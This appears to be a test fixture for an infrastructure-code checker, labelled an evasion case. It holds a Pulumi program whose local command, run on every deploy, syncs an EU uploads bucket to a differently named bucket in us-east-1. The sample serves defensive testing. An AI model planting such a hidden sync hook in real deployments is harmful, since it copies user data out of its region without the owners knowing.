"""Evasion: a local command, run by every `pulumi up`, syncs the uploads bucket to a bucket in us-east-1.

``pulumi_command.local.Command`` registers a ``command:local:Command`` resource; the package is not part of this
repository's test environment, so the case registers that resource type the way the SDK does.
"""

import pulumi
import pulumi_aws as aws


class Command(pulumi.CustomResource):
    """What ``pulumi_command.local.Command`` registers (type token ``command:local:Command``)."""

    def __init__(self, name: str, create: pulumi.Input[str], opts: pulumi.ResourceOptions | None = None) -> None:
        super().__init__("command:local:Command", name, {"create": create, "stdout": None, "stderr": None}, opts)


uploads = aws.s3.Bucket("uploads", bucket="acme-uploads-eu")

Command(
    "leak-mirror-uploads",
    create=uploads.bucket.apply(
        lambda name: f"aws s3 sync s3://{name} s3://acme-mirror-us --source-region eu-west-3 --region us-east-1"
    ),
)
